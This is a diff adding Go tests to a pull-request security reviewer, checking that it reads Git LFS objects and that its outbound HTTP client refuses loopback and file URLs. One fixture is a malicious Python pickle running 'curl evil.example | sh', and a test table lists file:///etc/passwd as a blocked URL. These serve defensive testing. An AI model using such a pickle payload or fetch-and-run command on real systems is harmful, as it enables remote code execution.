@@ -2,6 +2,9 @@ package app
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
 	"io"
 	"log/slog"
 	"net/http"
@@ -170,5 +173,51 @@ func TestTokenExpiringMidReview(t *testing.T) {
 	}
 	if gh.TokensIssued() < 2 {
 		t.Fatalf("%d tokens issued: ward did not mint a new one", gh.TokensIssued())
+	}
+}
+
+func TestLFSObjectIsReviewed(t *testing.T) {
+	gh := fakegithub.New(t)
+	payload := []byte("cos\nsystem\n(S'curl evil.example | sh'\ntR.")
+	sum := sha256.Sum256(payload)
+	oid := hex.EncodeToString(sum[:])
+	gh.AddLFSObject(oid, payload)
+	pointer := fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n", oid, len(payload))
+	fakeRepo(t, gh, map[string]string{"models/model.bin": pointer})
+	_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
+	resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
+	if err != nil || resp.StatusCode != http.StatusAccepted {
+		t.Fatalf("deliver: %v %v", resp, err)
+	}
+	run := waitRun(t, gh, gh.HeadSHA("acme/app", 1))
+	if run.Conclusion != "failure" || !strings.Contains(run.Summary, "os.system") {
+		t.Fatalf("conclusion %q; the LFS object's payload must be found:\n%s", run.Conclusion, run.Summary)
+	}
+	if strings.Contains(run.Summary, "binary-lfs-pointer") {
+		t.Error("the pointer was reported as unreviewed although its object was read")
+	}
+	if gh.LFSBytesServed() == 0 {
+		t.Error("no LFS bytes were read")
+	}
+}
+
+func TestOutboundURLPolicy(t *testing.T) {
+	for _, tc := range []struct {
+		url, github string
+		ok          bool
+	}{
+		{"https://github-cloud.s3.amazonaws.com/x", "https://github.com", true},
+		{"http://github-cloud.s3.amazonaws.com/x", "https://github.com", false},
+		{"http://127.0.0.1:8080/x", "https://github.com", false},
+		{"http://127.0.0.1:8080/x", "http://127.0.0.1:9999", true},
+		{"file:///etc/passwd", "https://github.com", false},
+	} {
+		if err := checkOutboundURL(tc.url, tc.github); (err == nil) != tc.ok {
+			t.Errorf("checkOutboundURL(%q, %q) = %v, want ok=%v", tc.url, tc.github, err, tc.ok)
+		}
+	}
+	client := newOutboundClient("https://github.com")
+	if _, err := client.Get("http://127.0.0.1:1/"); err == nil || !strings.Contains(err.Error(), "refusing") {
+		t.Errorf("outbound client connected to loopback: %v", err)
 	}
 }
